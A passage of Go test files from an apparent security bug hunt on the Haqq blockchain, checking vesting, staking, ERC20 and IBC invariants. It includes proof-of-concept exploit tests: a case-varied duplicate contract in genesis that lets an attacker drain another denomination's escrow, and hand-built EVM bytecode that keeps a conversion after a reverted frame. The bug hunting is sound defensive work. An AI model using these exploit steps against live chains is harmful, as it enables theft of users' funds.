			from := addrs[r.Intn(len(addrs))]
			bal := suite.zzTokenBalance(from, d.BaseDenom)
			if !bal.IsPositive() {
				continue
			}
			amt := sdkmath.NewInt(1 + r.Int63n(bal.Int64()))
			if r.Intn(3) == 0 {
				amt = bal
			}
			to := addrs[r.Intn(len(addrs))]
			if r.Intn(5) == 0 {
				to = sdk.AccAddress(tests.GenerateAddress().Bytes())
				addrs = append(addrs, to)
			}
			tag = fmt.Sprintf("step %d redeem %s%s", step, amt, d.BaseDenom)
			toBal := s.app.BankKeeper.GetBalance(s.ctx, to, "aISLM").Amount
			_, err := s.app.LiquidVestingKeeper.Redeem(s.ctx, types.NewMsgRedeem(from, to, sdk.NewCoin(d.BaseDenom, amt)))
			s.Require().NoError(err, tag)
			toBal2 := s.app.BankKeeper.GetBalance(s.ctx, to, "aISLM").Amount
			s.Require().Equal(amt.String(), toBal2.Sub(toBal).String(), tag)
		}
		after := grid()
		now := s.ctx.BlockTime().Unix()
		for i := range before {
			s.Require().True(after[i].GTE(before[i]), "seed %d %s: locked at now+%d (t=%d) fell from %s to %s", seed, tag, i, now+int64(i), before[i], after[i])
		}
		checkInv(tag)
	}
}
