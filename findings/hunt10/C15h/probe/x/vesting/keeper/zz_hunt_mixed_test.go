package keeper_test

import (
	"time"

	sdkmath "cosmossdk.io/math"
	"github.com/cosmos/cosmos-sdk/crypto/keys/ed25519"
	cryptotypes "github.com/cosmos/cosmos-sdk/crypto/types"
	sdk "github.com/cosmos/cosmos-sdk/types"
	sdkvesting "github.com/cosmos/cosmos-sdk/x/auth/vesting/types"
	"github.com/cosmos/cosmos-sdk/x/gov"
	govkeeper "github.com/cosmos/cosmos-sdk/x/gov/keeper"
	govv1 "github.com/cosmos/cosmos-sdk/x/gov/types/v1"
	stakingkeeper "github.com/cosmos/cosmos-sdk/x/staking/keeper"
	stakingtypes "github.com/cosmos/cosmos-sdk/x/staking/types"

	"github.com/haqq-network/haqq/tests"
	"github.com/haqq-network/haqq/testutil"
	lvtypes "github.com/haqq-network/haqq/x/liquidvesting/types"
	"github.com/haqq-network/haqq/x/vesting/types"
)

func (suite *KeeperTestSuite) zzInvariants(step string) {
	for _, r := range suite.app.CrisisKeeper.Routes() {
		msg, broken := r.Invar(suite.ctx)
		suite.Require().False(broken, "after %q: invariant %s/%s broken: %s", step, r.ModuleName, r.Route, msg)
	}
}

func (suite *KeeperTestSuite) zzFund(addr sdk.AccAddress, amt sdkmath.Int) {
	suite.Require().NoError(testutil.FundAccount(suite.ctx, suite.app.BankKeeper, addr, sdk.NewCoins(sdk.NewCoin("aISLM", amt))))
}

func (suite *KeeperTestSuite) TestZZMixedHistoryInvariants() {
	suite.SetupTest()
	one := sdkmath.NewIntWithDecimal(1, 18)
	islm := func(n int64) sdkmath.Int { return one.MulRaw(n) }
	suite.zzInvariants("setup")

	// pick the bonded genesis validator
	var val stakingtypes.Validator
	for _, v := range suite.app.StakingKeeper.GetAllValidators(suite.ctx) {
		if v.IsBonded() && v.Tokens.IsPositive() {
			val = v
		}
	}
	suite.Require().True(val.IsBonded())
	valAddr := val.GetOperator()
	consAddr, err := val.GetConsAddr()
	suite.Require().NoError(err)

	// a second validator created by a plain account
	op2 := sdk.AccAddress(tests.GenerateAddress().Bytes())
	suite.zzFund(op2, islm(100))
	stakingSrv := stakingkeeper.NewMsgServerImpl(suite.app.StakingKeeper.Keeper)
	{
		pk := testutilEdPub()
		msg, err := stakingtypes.NewMsgCreateValidator(sdk.ValAddress(op2), pk, sdk.NewCoin("aISLM", islm(50)),
			stakingtypes.Description{Moniker: "v2"}, stakingtypes.NewCommissionRates(sdk.NewDecWithPrec(1, 1), sdk.OneDec(), sdk.NewDecWithPrec(1, 1)), sdkmath.OneInt())
		suite.Require().NoError(err)
		_, err = stakingSrv.CreateValidator(suite.ctx, msg)
		suite.Require().NoError(err)
	}
	suite.app.StakingKeeper.BlockValidatorUpdates(suite.ctx)
	suite.zzInvariants("create validator 2")
	val2Addr := sdk.ValAddress(op2)

	// 1. convert into vesting account with an immediate delegation
	funder := sdk.AccAddress(tests.GenerateAddress().Bytes())
	vest1 := sdk.AccAddress(tests.GenerateAddress().Bytes())
	suite.zzFund(funder, islm(10000))
	amount := sdk.NewCoins(sdk.NewCoin("aISLM", islm(2000)))
	half := sdk.NewCoins(sdk.NewCoin("aISLM", islm(1000)))
	lock := sdkvesting.Periods{{Length: 100000, Amount: amount}}
	vest := sdkvesting.Periods{{Length: 0, Amount: half}, {Length: 50000, Amount: half}}
	_, err = suite.app.VestingKeeper.ConvertIntoVestingAccount(suite.ctx, types.NewMsgConvertIntoVestingAccount(
		funder, vest1, suite.ctx.BlockTime().Add(-time.Second), lock, vest, false, true, valAddr))
	suite.Require().NoError(err)
	suite.zzInvariants("convert into vesting + stake (bonded validator)")

	// 2. plain delegator: delegate, undelegate, redelegate
	del := sdk.AccAddress(tests.GenerateAddress().Bytes())
	suite.zzFund(del, islm(1000))
	_, err = stakingSrv.Delegate(suite.ctx, stakingtypes.NewMsgDelegate(del, valAddr, sdk.NewCoin("aISLM", islm(600))))
	suite.Require().NoError(err)
	_, err = stakingSrv.Undelegate(suite.ctx, stakingtypes.NewMsgUndelegate(del, valAddr, sdk.NewCoin("aISLM", islm(100))))
	suite.Require().NoError(err)
	_, err = stakingSrv.BeginRedelegate(suite.ctx, stakingtypes.NewMsgBeginRedelegate(del, valAddr, val2Addr, sdk.NewCoin("aISLM", islm(200))))
	suite.Require().NoError(err)
	// the vesting account undelegates part of its stake as well
	_, err = stakingSrv.Undelegate(suite.ctx, stakingtypes.NewMsgUndelegate(vest1, valAddr, sdk.NewCoin("aISLM", islm(300))))
	suite.Require().NoError(err)
	suite.app.StakingKeeper.BlockValidatorUpdates(suite.ctx)
	suite.zzInvariants("delegate/undelegate/redelegate")

	// 3. allocate some rewards, then slash (redirected burn) for an infraction before the unbondings
	suite.Require().NoError(testutil.FundModuleAccount(suite.ctx, suite.app.BankKeeper, "fee_collector", sdk.NewCoins(sdk.NewCoin("aISLM", islm(77).AddRaw(13)))))
	infraction := suite.ctx.BlockHeight()
	suite.CommitAfter(5 * time.Second)
	suite.zzInvariants("commit 1")
	supplyBefore := suite.app.BankKeeper.GetSupply(suite.ctx, "aISLM")
	val, _ = suite.app.StakingKeeper.GetValidator(suite.ctx, valAddr)
	power := val.ConsensusPower(sdk.DefaultPowerReduction)
	suite.app.StakingKeeper.Slash(suite.ctx, consAddr, infraction-1, power, sdk.NewDecWithPrec(7, 2))
	suite.zzInvariants("slash bonded validator")
	suite.Require().Equal(supplyBefore, suite.app.BankKeeper.GetSupply(suite.ctx, "aISLM"), "redirected burn keeps the supply")

	// 4. governance: a proposal whose deposit period expires -> deposits burned (redirected)
	govSrv := govkeeper.NewMsgServerImpl(&suite.app.GovKeeper)
	prop, err := govv1.NewMsgSubmitProposal(nil, sdk.NewCoins(sdk.NewCoin("aISLM", sdkmath.NewInt(12345))), del.String(), "", "t", "s")
	suite.Require().NoError(err)
	_, err = govSrv.SubmitProposal(suite.ctx, prop)
	suite.Require().NoError(err)
	suite.zzInvariants("submit proposal")
	depositPeriod := *suite.app.GovKeeper.GetParams(suite.ctx).MaxDepositPeriod
	suite.ctx = suite.ctx.WithBlockTime(suite.ctx.BlockTime().Add(depositPeriod + time.Second))
	gov.EndBlocker(suite.ctx, &suite.app.GovKeeper)
	suite.zzInvariants("gov deposit burn")

	// 5. jail the validator -> unbonding; stake into it through the vesting module; slash it again (not-bonded burn)
	suite.app.StakingKeeper.Jail(suite.ctx, consAddr)
	suite.app.StakingKeeper.BlockValidatorUpdates(suite.ctx)
	val, _ = suite.app.StakingKeeper.GetValidator(suite.ctx, valAddr)
	suite.Require().True(val.IsUnbonding())
	suite.zzInvariants("jail")
	vest2 := sdk.AccAddress(tests.GenerateAddress().Bytes())
	_, err = suite.app.VestingKeeper.ConvertIntoVestingAccount(suite.ctx, types.NewMsgConvertIntoVestingAccount(
		funder, vest2, suite.ctx.BlockTime().Add(-time.Second), lock, vest, false, true, valAddr))
	suite.Require().NoError(err)
	suite.zzInvariants("convert into vesting + stake (unbonding validator)")
	suite.app.StakingKeeper.Slash(suite.ctx, consAddr, infraction-1, power, sdk.NewDecWithPrec(3, 2))
	suite.zzInvariants("slash unbonding validator")

	// 6. clawback of the unvested part, merge of a second grant
	_, err = suite.app.VestingKeeper.ConvertIntoVestingAccount(suite.ctx, types.NewMsgConvertIntoVestingAccount(
		funder, vest1, suite.ctx.BlockTime().Add(-time.Second), lock, vest, true, true, val2Addr))
	suite.Require().NoError(err)
	suite.zzInvariants("merge grant + stake")
	_, err = suite.app.VestingKeeper.Clawback(suite.ctx, types.NewMsgClawback(funder, vest2, nil))
	suite.T().Logf("clawback: %v", err)
	suite.zzInvariants("clawback")

	// 7. dao fund and liquid vesting
	err = suite.app.DaoKeeper.Fund(suite.ctx, sdk.NewCoins(sdk.NewCoin("aISLM", islm(5))), del)
	suite.T().Logf("dao fund: %v", err)
	suite.zzInvariants("dao fund")
	// vest everything of vest2 so that only the lock-up remains, then liquidate
	suite.ctx = suite.ctx.WithBlockTime(suite.ctx.BlockTime().Add(60000 * time.Second))
	_, err = suite.app.LiquidVestingKeeper.Liquidate(suite.ctx, lvtypes.NewMsgLiquidate(vest1, del, sdk.NewCoin("aISLM", islm(1000))))
	suite.T().Logf("liquidate: %v", err)
	suite.zzInvariants("liquidate")
	if err == nil {
		denoms := suite.app.LiquidVestingKeeper.GetAllDenoms(suite.ctx)
		suite.Require().NotEmpty(denoms)
		_, err = suite.app.LiquidVestingKeeper.Redeem(suite.ctx, lvtypes.NewMsgRedeem(del, vest2, sdk.NewCoin(denoms[0].GetBaseDenom(), islm(400))))
		suite.T().Logf("redeem: %v", err)
		suite.zzInvariants("redeem")
	}

	// 8. maturity: unbondings and redelegations complete, validator becomes unbonded; everybody leaves -> validator removed
	suite.ctx = suite.ctx.WithBlockTime(suite.ctx.BlockTime().Add(suite.app.StakingKeeper.UnbondingTime(suite.ctx) + time.Hour))
	suite.app.StakingKeeper.BlockValidatorUpdates(suite.ctx)
	suite.zzInvariants("maturity")
	for _, d := range suite.app.StakingKeeper.GetValidatorDelegations(suite.ctx, valAddr) {
		_, err = suite.app.StakingKeeper.Undelegate(suite.ctx, d.GetDelegatorAddr(), valAddr, d.Shares)
		suite.Require().NoError(err)
	}
	_, found := suite.app.StakingKeeper.GetValidator(suite.ctx, valAddr)
	suite.T().Logf("validator still present: %v", found)
	suite.zzInvariants("validator emptied")
	suite.ctx = suite.ctx.WithBlockTime(suite.ctx.BlockTime().Add(suite.app.StakingKeeper.UnbondingTime(suite.ctx) + time.Hour))
	suite.app.StakingKeeper.BlockValidatorUpdates(suite.ctx)
	suite.zzInvariants("final")
}

func testutilEdPub() cryptotypes.PubKey { return ed25519.GenPrivKey().PubKey() }
