package bank_test

import (
	"math/big"

	"cosmossdk.io/math"
	abci "github.com/cometbft/cometbft/abci/types"
	sdk "github.com/cosmos/cosmos-sdk/types"
	banktypes "github.com/cosmos/cosmos-sdk/x/bank/types"
	"github.com/ethereum/go-ethereum/common"

	"github.com/haqq-network/haqq/precompiles/bank"
	erc20types "github.com/haqq-network/haqq/x/erc20/types"
)

// nativeBankBalance asks the chain's own bank query service (the handler the application registered under
// /cosmos.bank.v1beta1.Query/Balance, i.e. what `haqqd q bank balances`, gRPC and REST clients are served)
// for the balance of one denomination.
func (s *PrecompileTestSuite) nativeBankBalance(addr sdk.AccAddress, denom string) math.Int {
	handler := s.network.App.GRPCQueryRouter().Route("/cosmos.bank.v1beta1.Query/Balance")
	s.Require().NotNil(handler, "bank Query/Balance is not registered")

	req := banktypes.QueryBalanceRequest{Address: addr.String(), Denom: denom}
	bz, err := req.Marshal()
	s.Require().NoError(err)

	res, err := handler(s.network.GetContext(), abci.RequestQuery{Data: bz})
	s.Require().NoError(err)

	var out banktypes.QueryBalanceResponse
	s.Require().NoError(out.Unmarshal(res.Value))
	s.Require().NotNil(out.Balance)
	return out.Balance.Amount
}

// precompileBalance returns what bank.balances(account) reports under the ERC20 address of a denomination
// (zero when the denomination is not listed at all).
func (s *PrecompileTestSuite) precompileBalance(account common.Address, token common.Address) *big.Int {
	method := s.precompile.Methods[bank.BalancesMethod]
	bz, err := s.precompile.Balances(s.network.GetContext(), nil, &method, []interface{}{account})
	s.Require().NoError(err)

	var balances []bank.Balance
	s.Require().NoError(s.precompile.UnpackIntoInterface(&balances, method.Name, bz))
	for _, b := range balances {
		if b.ContractAddress == token {
			return b.Amount
		}
	}
	return big.NewInt(0)
}

// TestZZHuntBalancesVsBankModule: for a denomination that has an ERC20 address, bank.balances(account) must
// report the balance the chain's bank module reports for that account and denomination.
func (s *PrecompileTestSuite) TestZZHuntBalancesVsBankModule() {
	s.SetupTest()

	acc := s.keyring.GetAccAddr(0)
	hex := s.keyring.GetAddr(0)

	// the account owns 1e18 xmpl (a registered coin: it has an ERC20 address) ...
	s.mintAndSendXMPLCoin(acc, math.NewInt(1e18))

	// before any conversion both interfaces agree
	s.Require().Equal(
		s.nativeBankBalance(acc, s.tokenDenom).String(),
		s.precompileBalance(hex, s.xmplAddr).String(),
		"before the conversion",
	)

	// ... and moves 4e17 of them to their ERC20 representation with the plain erc20 message
	_, err := s.network.App.Erc20Keeper.ConvertCoin(
		sdk.WrapSDKContext(s.network.GetContext()),
		erc20types.NewMsgConvertCoin(sdk.NewCoin(s.tokenDenom, math.NewInt(4e17)), hex, acc),
	)
	s.Require().NoError(err)

	native := s.nativeBankBalance(acc, s.tokenDenom)
	viaPrecompile := s.precompileBalance(hex, s.xmplAddr)
	s.T().Logf("bank module Query/Balance(%s) = %s ; bank precompile balances()[%s] = %s",
		s.tokenDenom, native, s.xmplAddr, viaPrecompile)

	s.Require().Equal(native.String(), viaPrecompile.String(),
		"bank.balances() must report the same %s balance as the bank module", s.tokenDenom)
}

// TestZZHuntBalancesMissingDenom: an account that holds a registered denomination only in its ERC20 form is
// reported by the bank module with that denomination, the precompile does not list the denomination at all.
func (s *PrecompileTestSuite) TestZZHuntBalancesMissingDenom() {
	s.SetupTest()

	acc := s.keyring.GetAccAddr(0)
	hex := s.keyring.GetAddr(0)

	s.mintAndSendXMPLCoin(acc, math.NewInt(1e18))
	_, err := s.network.App.Erc20Keeper.ConvertCoin(
		sdk.WrapSDKContext(s.network.GetContext()),
		erc20types.NewMsgConvertCoin(sdk.NewCoin(s.tokenDenom, math.NewInt(1e18)), hex, acc),
	)
	s.Require().NoError(err)

	native := s.nativeBankBalance(acc, s.tokenDenom)
	viaPrecompile := s.precompileBalance(hex, s.xmplAddr)
	s.T().Logf("bank module Query/Balance(%s) = %s ; bank precompile balances()[%s] = %s",
		s.tokenDenom, native, s.xmplAddr, viaPrecompile)

	s.Require().Equal(native.String(), viaPrecompile.String(),
		"bank.balances() must report the same %s balance as the bank module", s.tokenDenom)
}
