package keeper_test

import (
	"math/big"
	"strings"

	"cosmossdk.io/math"
	sdk "github.com/cosmos/cosmos-sdk/types"
	"github.com/ethereum/go-ethereum/common"

	utiltx "github.com/haqq-network/haqq/testutil/tx"
	coinomicstypes "github.com/haqq-network/haqq/x/coinomics/types"
	"github.com/haqq-network/haqq/x/erc20"
	"github.com/haqq-network/haqq/x/erc20/types"
)

// TestZZHuntGenesisSameContractTwoPegs:
//
// property C10 - for every registered coin-origin pair the ERC-20 total supply never
// exceeds the coins of THAT pair escrowed in the module account.
//
// GenesisState.Validate is meant to reject a contract that backs two pairs, but it
// compares the address *strings* (x/erc20/types/genesis.go), so the same contract spelled
// once in EIP-55 checksum case and once in lower case passes. InitGenesis then stores two
// pairs (ids differ, the id hashes the string) whose denom->id entries both exist, while
// the single contract->id entry points at the pair written last. Coins of the first
// denom mint tokens that redeem the escrow of the second denom.
func (suite *KeeperTestSuite) TestZZHuntGenesisSameContractTwoPegs() {
	suite.SetupTest()
	k := suite.app.Erc20Keeper
	const denomB = "bcoin"

	// a running chain with one ordinary coin-origin pair (acoin <-> module-owned contract X) ...
	pairA := suite.setupRegisterCoin(metadataCoin)
	contract := pairA.GetERC20Contract()

	// ... is exported, and the genesis file gets a second pair for the same contract, lower-cased
	gs := erc20.ExportGenesis(suite.ctx, k)
	pairB := types.TokenPair{
		Erc20Address:  strings.ToLower(pairA.Erc20Address),
		Denom:         denomB,
		Enabled:       true,
		ContractOwner: types.OWNER_MODULE,
	}
	suite.Require().Equal(contract, pairB.GetERC20Contract(), "both pairs name the same contract")
	gs.TokenPairs = append(gs.TokenPairs, pairB)

	if err := gs.Validate(); err != nil {
		suite.T().Logf("genesis validation rejects the duplicated contract: %v", err)
		return
	}
	suite.T().Logf("genesis validation ACCEPTED %s and %s as two different contracts", pairA.Erc20Address, pairB.Erc20Address)
	erc20.InitGenesis(suite.ctx, k, suite.app.AccountKeeper, *gs)

	// victim owns 100 bcoin, attacker owns 100 acoin
	victim := sdk.AccAddress(utiltx.GenerateAddress().Bytes())
	attacker := sdk.AccAddress(suite.address.Bytes())
	fund := func(to sdk.AccAddress, denom string) {
		c := sdk.NewCoins(sdk.NewInt64Coin(denom, 100))
		suite.Require().NoError(suite.app.BankKeeper.MintCoins(suite.ctx, coinomicstypes.ModuleName, c))
		suite.Require().NoError(suite.app.BankKeeper.SendCoinsFromModuleToAccount(suite.ctx, coinomicstypes.ModuleName, to, c))
	}
	fund(victim, denomB)
	fund(attacker, pairA.Denom)

	convertCoin := func(who sdk.AccAddress, denom string) error {
		cctx, write := suite.ctx.CacheContext()
		_, err := k.ConvertCoin(sdk.WrapSDKContext(cctx),
			types.NewMsgConvertCoin(sdk.NewInt64Coin(denom, 100), common.BytesToAddress(who.Bytes()), who))
		if err == nil {
			write()
		}
		return err
	}
	convertERC20 := func(who sdk.AccAddress) error {
		cctx, write := suite.ctx.CacheContext()
		_, err := k.ConvertERC20(sdk.WrapSDKContext(cctx),
			types.NewMsgConvertERC20(math.NewInt(100), who, contract, common.BytesToAddress(who.Bytes())))
		if err == nil {
			write()
		}
		return err
	}
	moduleAcc := suite.app.AccountKeeper.GetModuleAddress(types.ModuleName)
	escrow := func(denom string) int64 {
		return suite.app.BankKeeper.GetBalance(suite.ctx, moduleAcc, denom).Amount.Int64()
	}
	tokens := func(who sdk.AccAddress) int64 {
		return suite.BalanceOf(contract, common.BytesToAddress(who.Bytes())).(*big.Int).Int64()
	}

	// the victim converts 100 bcoin -> 100 tokens; the attacker converts 100 acoin -> 100 tokens
	suite.Require().NoError(convertCoin(victim, denomB))
	suite.Require().NoError(convertCoin(attacker, pairA.Denom))
	suite.Require().Equal(int64(100), escrow(denomB))
	suite.Require().Equal(int64(100), escrow(pairA.Denom))

	// the attacker converts his tokens back
	err := convertERC20(attacker)
	suite.T().Logf("attacker ConvertERC20: err=%v ; attacker now holds %s and %s ; module escrow: %d acoin, %d bcoin ; victim holds %d tokens",
		err,
		suite.app.BankKeeper.GetBalance(suite.ctx, attacker, pairA.Denom), suite.app.BankKeeper.GetBalance(suite.ctx, attacker, denomB),
		escrow(pairA.Denom), escrow(denomB), tokens(victim))

	// the victim's 100 tokens were minted against 100 bcoin: they must still be backed by them
	suite.Require().GreaterOrEqual(escrow(denomB), tokens(victim),
		"C10 violated: %d tokens minted against %s are backed by %d %s in the module account",
		tokens(victim), denomB, escrow(denomB), denomB)
	suite.Require().NoError(convertERC20(victim), "the victim must be able to redeem his tokens")
	suite.Require().Equal(int64(100), suite.app.BankKeeper.GetBalance(suite.ctx, victim, denomB).Amount.Int64())
}
