package ics20_test

import (
	"math/big"

	"cosmossdk.io/math"
	sdk "github.com/cosmos/cosmos-sdk/types"
	banktypes "github.com/cosmos/cosmos-sdk/x/bank/types"
	transfertypes "github.com/cosmos/ibc-go/v7/modules/apps/transfer/types"
	"github.com/ethereum/go-ethereum/common"
	"github.com/ethereum/go-ethereum/crypto"

	haqqcontracts "github.com/haqq-network/haqq/contracts"
	haqqtestutil "github.com/haqq-network/haqq/testutil"
	coinomicstypes "github.com/haqq-network/haqq/x/coinomics/types"
	erc20types "github.com/haqq-network/haqq/x/erc20/types"
	evmtypes "github.com/haqq-network/haqq/x/evm/types"
)

// zzStrictRuntime: hand-assembled batch caller (see zz_hunt_c10_nested_convert_test.go):
// calldata = records [20 byte target][2 byte length][call data]; each record is CALLed in
// order, a failing call reverts the whole frame (revert data bubbled up).
var zzStrictRuntime = common.FromHex(
	"60005b803611600a57005b803560601c816014013560f01c" +
		"8083601601600037600060008260006000865af1603957" +
		"3d600060003e3d6000fd5b905001601601600256",
)

// zzLenientRuntime: the same contract, but the 10 byte "bubble the revert" block at 0x2f is
// replaced by PUSH1 0x39 JUMP (+ padding), i.e. a failing call is ignored - the low level
// equivalent of `try target.call(data) {} catch {}`.
var zzLenientRuntime = common.FromHex(
	"60005b803611600a57005b803560601c816014013560f01c" +
		"8083601601600037600060008260006000865af1603957" +
		"60395600000000000000" + "5b905001601601600256",
)

func zzInit(runtime []byte) []byte {
	// PUSH1 len DUP1 PUSH1 0x0b PUSH1 0 CODECOPY PUSH1 0 RETURN
	return append([]byte{0x60, byte(len(runtime)), 0x80, 0x60, 0x0b, 0x60, 0x00, 0x39, 0x60, 0x00, 0xf3}, runtime...)
}

func zzRec(target common.Address, data []byte) []byte {
	out := append([]byte{}, target.Bytes()...)
	out = append(out, byte(len(data)>>8), byte(len(data)))
	return append(out, data...)
}

func (s *PrecompileTestSuite) zzDeploy(runtime []byte) common.Address {
	ctx := s.chainA.GetContext()
	nonce := s.app.EvmKeeper.GetNonce(ctx, s.address)
	tx := evmtypes.NewTx(&evmtypes.EvmTxArgs{
		ChainID:  s.app.EvmKeeper.ChainID(),
		Nonce:    nonce,
		GasLimit: 300_000,
		GasPrice: gasPrice,
		Input:    zzInit(runtime),
	})
	tx.From = s.address.Hex()
	_, err := haqqtestutil.DeliverEthTx(s.app, s.privKey, tx)
	s.Require().NoError(err)
	addr := crypto.CreateAddress(s.address, nonce)
	s.chainA.NextBlock()
	ctx = s.chainA.GetContext()
	s.Require().Equal(runtime, s.app.EvmKeeper.GetCode(ctx, common.BytesToHash(s.app.EvmKeeper.GetAccountWithoutBalance(ctx, addr).CodeHash)))
	return addr
}

// TestZZHuntC10RevertedFrameKeepsConversion
//
// Property C10: a conversion debits one representation and credits the other by exactly
// the same amount OR FAILS WITHOUT EFFECT.
//
// A call frame that (1) moves 600 of its tokens, (2) lets the ICS20 precompile convert and
// send its remaining 400 tokens and (3) reverts, must either undo the conversion as well or
// leave the tokens converted. Here the frame's revert restores the token balance (1000) while
// the 400 coins released from the erc20 escrow stay sent.
func (s *PrecompileTestSuite) TestZZHuntC10RevertedFrameKeepsConversion() {
	s.suiteIBCTesting = true
	s.SetupTest()
	defer func() { s.suiteIBCTesting = false }()

	require := s.Require()
	const denom = "atest"
	erc20ABI := haqqcontracts.ERC20MinterBurnerDecimalsContract.ABI
	moduleAcc := s.app.AccountKeeper.GetModuleAddress(erc20types.ModuleName)

	// coin-origin (module owned) token pair for "atest", 1000atest minted to the signer
	ctx := s.chainA.GetContext()
	initial := sdk.NewCoins(sdk.NewInt64Coin(denom, 1000))
	require.NoError(s.app.BankKeeper.MintCoins(ctx, coinomicstypes.ModuleName, initial))
	require.NoError(s.app.BankKeeper.SendCoinsFromModuleToAccount(ctx, coinomicstypes.ModuleName, s.address.Bytes(), initial))
	pair, err := s.app.Erc20Keeper.RegisterCoin(ctx, banktypes.Metadata{
		Description: "test coin",
		Base:        denom,
		DenomUnits:  []*banktypes.DenomUnit{{Denom: denom, Exponent: 0}, {Denom: "test", Exponent: 18}},
		Name:        denom,
		Symbol:      "TEST",
		Display:     "test",
	})
	require.NoError(err)
	token := pair.GetERC20Contract()
	s.chainA.NextBlock()

	inner := s.zzDeploy(zzStrictRuntime)  // holds the tokens, reverts when one of its calls fails
	outer := s.zzDeploy(zzLenientRuntime) // calls `inner` and ignores its failure

	ctx = s.chainA.GetContext()
	_, err = s.app.Erc20Keeper.ConvertCoin(sdk.WrapSDKContext(ctx),
		erc20types.NewMsgConvertCoin(sdk.NewInt64Coin(denom, 1000), inner, s.address.Bytes()))
	require.NoError(err)
	require.NoError(s.NewTransferAuthorizationWithAllocations(ctx, s.app, inner, s.address, []transfertypes.Allocation{{
		SourcePort:    s.transferPath.EndpointA.ChannelConfig.PortID,
		SourceChannel: s.transferPath.EndpointA.ChannelID,
		SpendLimit:    sdk.NewCoins(sdk.NewInt64Coin(denom, 1000)),
	}}))
	s.chainA.NextBlock()
	ctx = s.chainA.GetContext()
	require.Equal(int64(1000), s.app.Erc20Keeper.BalanceOf(ctx, erc20ABI, token, inner).Int64())
	require.Equal(int64(1000), s.app.BankKeeper.GetBalance(ctx, moduleAcc, denom).Amount.Int64())

	// inner frame: token.transfer(other, 600); ics20.transfer(400 atest of inner); token.transfer(other, 10^9) -> reverts
	move600, err := erc20ABI.Pack("transfer", s.differentAddr, big.NewInt(600))
	require.NoError(err)
	ibcData, err := s.precompile.ABI.Pack("transfer",
		s.transferPath.EndpointA.ChannelConfig.PortID,
		s.transferPath.EndpointA.ChannelID,
		denom,
		big.NewInt(400),
		inner,
		s.chainB.SenderAccount.GetAddress().String(),
		s.chainB.GetTimeoutHeight(),
		uint64(0),
		"memo",
	)
	require.NoError(err)
	tooMuch, err := erc20ABI.Pack("transfer", s.differentAddr, big.NewInt(1_000_000_000))
	require.NoError(err)

	// any later storage write of the token contract in the same transaction (here: an approve by `outer`)
	approveData, err := erc20ABI.Pack("approve", s.differentAddr, big.NewInt(1))
	require.NoError(err)

	innerInput := zzRec(token, move600)
	innerInput = append(innerInput, zzRec(s.precompile.Address(), ibcData)...)
	innerInput = append(innerInput, zzRec(token, tooMuch)...)

	callTx := evmtypes.NewTx(&evmtypes.EvmTxArgs{
		ChainID:  s.app.EvmKeeper.ChainID(),
		Nonce:    s.app.EvmKeeper.GetNonce(ctx, s.address),
		To:       &outer,
		GasLimit: 5_000_000,
		GasPrice: gasPrice,
		Input:    append(zzRec(inner, innerInput), zzRec(token, approveData)...),
	})
	callTx.From = s.address.Hex()
	_, err = haqqtestutil.DeliverEthTx(s.app, s.privKey, callTx)
	require.NoError(err, "the outer transaction succeeds (the failure of the inner frame is ignored)")
	s.chainA.NextBlock()
	ctx = s.chainA.GetContext()

	escrow := s.app.BankKeeper.GetBalance(ctx, moduleAcc, denom).Amount
	ibcEscrow := s.app.BankKeeper.GetBalance(ctx,
		transfertypes.GetEscrowAddress(s.transferPath.EndpointA.ChannelConfig.PortID, s.transferPath.EndpointA.ChannelID), denom).Amount
	balInner := s.app.Erc20Keeper.BalanceOf(ctx, erc20ABI, token, inner)
	balOther := s.app.Erc20Keeper.BalanceOf(ctx, erc20ABI, token, s.differentAddr)
	circulating := math.NewIntFromBigInt(new(big.Int).Add(balInner, balOther))
	s.T().Logf("erc20 escrow=%s ibc escrow=%s balanceOf(inner)=%s balanceOf(other)=%s circulating=%s",
		escrow, ibcEscrow, balInner, balOther, circulating)

	// the reverted frame must not have moved tokens ...
	require.Equal(int64(0), balOther.Int64(), "token.transfer of the reverted frame was undone")
	// ... and either the conversion was undone too (1000 tokens, 1000 escrowed, nothing sent)
	// or it stays (600 tokens, 600 escrowed, 400 sent). Both satisfy tokens == escrow.
	require.Equal(escrow.Int64()+ibcEscrow.Int64(), int64(1000), "no atest created or destroyed")
	require.True(circulating.LTE(escrow),
		"ERC20 tokens in circulation (%s) exceed the coins escrowed in the erc20 module (%s): %s atest were released and sent over IBC although the holder kept all its tokens",
		circulating, escrow, ibcEscrow)
}
