package ics20_test

import (
	"encoding/binary"
	"math/big"

	"cosmossdk.io/math"
	sdk "github.com/cosmos/cosmos-sdk/types"
	banktypes "github.com/cosmos/cosmos-sdk/x/bank/types"
	transfertypes "github.com/cosmos/ibc-go/v7/modules/apps/transfer/types"
	"github.com/ethereum/go-ethereum/common"
	"github.com/ethereum/go-ethereum/crypto"

	haqqcontracts "github.com/haqq-network/haqq/contracts"
	haqqtestutil "github.com/haqq-network/haqq/testutil"
	coinomicstypes "github.com/haqq-network/haqq/x/coinomics/types"
	erc20types "github.com/haqq-network/haqq/x/erc20/types"
	evmtypes "github.com/haqq-network/haqq/x/evm/types"
)

// zzBatchRuntime is a 67 byte hand-assembled "batch caller". Its calldata is a
// sequence of records [20 byte target][2 byte big-endian length][call data];
// every record is executed with CALL (value 0, all gas) in order and the whole
// transaction reverts (bubbling the revert data) when one of the calls fails.
//
//	00 PUSH1 0 | 02 JUMPDEST | DUP1 CALLDATASIZE GT PUSH1 0a JUMPI STOP
//	0a JUMPDEST DUP1 CALLDATALOAD PUSH1 60 SHR            ; target
//	10 DUP2 PUSH1 14 ADD CALLDATALOAD PUSH1 f0 SHR         ; len
//	18 DUP1 DUP4 PUSH1 16 ADD PUSH1 0 CALLDATACOPY         ; mem[0:len] = data
//	20 PUSH1 0 PUSH1 0 DUP3 PUSH1 0 PUSH1 0 DUP7 GAS CALL
//	2c PUSH1 39 JUMPI  RETURNDATASIZE PUSH1 0 PUSH1 0 RETURNDATACOPY RETURNDATASIZE PUSH1 0 REVERT
//	39 JUMPDEST SWAP1 POP ADD PUSH1 16 ADD PUSH1 02 JUMP
var zzBatchRuntime = common.FromHex(
	"60005b803611600a57005b803560601c816014013560f01c" +
		"8083601601600037600060008260006000865af1603957" +
		"3d600060003e3d6000fd5b905001601601600256",
)

// init code: copy the runtime (0x43 bytes found at offset 0x0b) to memory and return it
var zzBatchInit = append(common.FromHex("604380600b6000396000f3"), zzBatchRuntime...)

func zzRecord(target common.Address, data []byte) []byte {
	l := make([]byte, 2)
	binary.BigEndian.PutUint16(l, uint16(len(data)))
	out := append([]byte{}, target.Bytes()...)
	out = append(out, l...)
	return append(out, data...)
}

